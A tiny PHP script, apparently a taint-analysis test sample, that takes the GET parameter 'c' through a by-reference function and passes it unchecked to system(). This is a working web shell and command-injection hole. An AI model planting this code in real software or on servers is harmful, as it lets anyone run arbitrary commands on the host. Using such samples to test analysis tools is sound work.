<?php
function f(&$c) { $c = $_GET["c"]; }
f($c);
system($c);
